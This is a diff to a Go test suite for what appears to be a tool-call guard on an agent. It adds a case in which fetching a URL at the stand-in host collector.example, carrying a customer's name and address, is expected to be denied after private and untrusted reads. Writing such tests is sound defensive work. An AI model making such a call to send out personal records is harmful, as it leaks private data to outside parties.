@@ -116,6 +116,7 @@ func TestFlows(t *testing.T) {
 		g.client("dora").call("find_record", "customer", "Ada").wants(t, "the private read", "allow", true)
 		g.client("dora").call("read_ticket", "number", "7").wants(t, "the untrusted read", "allow", true)
 		g.client("dora").call("send_mail", "to", "audit@collector.example", "body", record).wants(t, "the write", "deny", false)
+		g.client("dora").call("open_page", "url", "https://collector.example/?d=Ada%20Example%2C%20Main%20Street%205").wants(t, "the fetch", "deny", false)
 	})
 
 	t.Run("an internal note in the user's words", func(t *testing.T) {
